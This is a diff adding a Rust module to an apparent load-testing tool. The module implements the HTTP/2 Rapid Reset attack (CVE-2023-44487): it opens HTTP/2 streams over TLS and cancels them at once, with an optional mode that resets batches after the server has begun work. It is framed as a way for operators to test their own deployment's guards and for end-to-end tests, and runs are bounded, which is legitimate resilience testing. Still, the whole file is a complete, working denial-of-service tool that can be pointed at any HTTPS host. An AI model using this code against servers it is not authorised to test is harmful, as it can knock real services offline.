@@ -1,0 +1,137 @@
+//! Attack tools, for operators to try their own deployment's guards (`edge-load attack …`)
+//! and for the e2e tests. Every run is bounded by a stream count and a time limit.
+//!
+//! `rapid-reset` (CVE-2023-44487): on one HTTP/2 connection, open a stream (HEADERS) and
+//! cancel it (RST_STREAM) at once, again and again, never reading a response. A server that
+//! keeps doing work for cancelled streams spends CPU for nothing; a guarded one closes the
+//! connection.
+
+use std::sync::Arc;
+use std::time::{Duration, Instant};
+
+use bytes::Bytes;
+use serde::Serialize;
+use tokio::net::TcpStream;
+
+use crate::LoadError;
+use crate::conn::Target;
+
+/// What an attack saw.
+#[derive(Debug, Clone, Serialize)]
+pub struct AttackReport {
+    /// Streams opened and reset.
+    pub streams: u64,
+    /// The server ended the connection (GOAWAY or close) before the attack finished.
+    pub closed_by_server: bool,
+    /// How long until then (or until the attack finished), in milliseconds.
+    pub elapsed_ms: u64,
+    /// What ended it, when the server did.
+    pub reason: Option<String>,
+}
+
+fn io(context: &str) -> impl Fn(std::io::Error) -> LoadError + '_ {
+    move |source| LoadError::Io {
+        context: context.to_string(),
+        source,
+    }
+}
+
+/// Opens and resets up to `streams` streams on one HTTP/2 connection to `target` (TLS with
+/// ALPN h2), for at most `within`. With `hold` zero each stream is reset right after its
+/// HEADERS (most never reach the server's application: h2's budget of streams reset before
+/// they were accepted is the guard); otherwise streams go out in batches of 50 that are
+/// reset after `hold`, once the server is working on them (the application's guard).
+pub async fn rapid_reset(
+    target: &Target,
+    path: &str,
+    streams: u64,
+    within: Duration,
+    hold: Duration,
+) -> Result<AttackReport, LoadError> {
+    let cfg: Arc<rustls::ClientConfig> = target
+        .tls
+        .clone()
+        .ok_or_else(|| LoadError::Usage("rapid-reset needs HTTPS (HTTP/2 over TLS)".into()))?;
+    let tcp = TcpStream::connect(target.addr)
+        .await
+        .map_err(io("connect"))?;
+    let _ = tcp.set_nodelay(true);
+    let name = rustls::pki_types::ServerName::try_from(target.host.clone())
+        .map_err(|e| LoadError::Usage(e.to_string()))?;
+    let tls = tokio_rustls::TlsConnector::from(cfg)
+        .connect(name, tcp)
+        .await
+        .map_err(io("TLS handshake"))?;
+    let (mut send, conn) = h2::client::Builder::new()
+        .max_concurrent_reset_streams(usize::MAX)
+        .handshake::<_, Bytes>(tls)
+        .await
+        .map_err(|e| LoadError::Io {
+            context: "HTTP/2 handshake".into(),
+            source: std::io::Error::other(e.to_string()),
+        })?;
+    let (ended_tx, mut ended_rx) = tokio::sync::oneshot::channel::<String>();
+    tokio::spawn(async move {
+        let reason = match conn.await {
+            Ok(()) => "connection closed".to_string(),
+            Err(e) => e.to_string(),
+        };
+        let _ = ended_tx.send(reason);
+    });
+    let uri = format!("https://{}{path}", target.host);
+    let start = Instant::now();
+    let mut sent = 0;
+    let mut reason = None;
+    let mut held = Vec::new();
+    while sent < streams && start.elapsed() < within {
+        if let Ok(r) = ended_rx.try_recv() {
+            reason = Some(r);
+            break;
+        }
+        send = match tokio::time::timeout(Duration::from_secs(2), send.ready()).await {
+            Ok(Ok(s)) => s,
+            Ok(Err(e)) => {
+                reason = Some(e.to_string());
+                break;
+            }
+            Err(_) => {
+                reason = Some("no stream credit for 2 s".into());
+                break;
+            }
+        };
+        let req = match http::Request::get(&uri).body(()) {
+            Ok(r) => r,
+            Err(e) => return Err(LoadError::Usage(e.to_string())),
+        };
+        match send.send_request(req, true) {
+            // Dropping the response future of an open stream sends RST_STREAM(CANCEL).
+            Ok((resp, _)) if hold.is_zero() => drop(resp),
+            Ok((resp, _)) => held.push(resp),
+            Err(e) => {
+                reason = Some(e.to_string());
+                break;
+            }
+        }
+        sent += 1;
+        if held.len() >= 50 {
+            tokio::time::sleep(hold).await;
+            held.clear();
+        }
+        if sent % 64 == 0 {
+            // Let the connection task write what is queued.
+            tokio::task::yield_now().await;
+        }
+    }
+    if reason.is_none() {
+        // The server may close right after the last stream: give it a moment to say so.
+        if let Ok(Ok(r)) = tokio::time::timeout(Duration::from_millis(500), ended_rx).await {
+            reason = Some(r);
+        }
+    }
+    Ok(AttackReport {
+        streams: sent,
+        closed_by_server: reason.is_some(),
+        elapsed_ms: u64::try_from(start.elapsed().as_millis()).unwrap_or(u64::MAX),
+        reason,
+    })
+}
